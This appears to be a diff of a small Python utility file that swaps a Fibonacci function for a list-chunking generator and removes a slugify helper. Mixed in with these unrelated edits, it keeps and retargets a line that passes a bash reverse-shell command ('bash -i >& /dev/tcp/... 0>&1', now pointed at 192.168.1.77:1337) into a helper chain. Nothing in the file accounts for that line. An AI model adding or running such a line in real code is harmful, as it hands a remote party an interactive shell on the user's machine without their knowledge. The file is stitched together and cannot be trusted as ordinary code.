@@ -1,9 +1,7 @@
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
 import os
 
@@ -13,6 +11,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/198.51.100.23/4444 0>&1")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+outer("bash -i >& /dev/tcp/192.168.1.77/1337 0>&1")
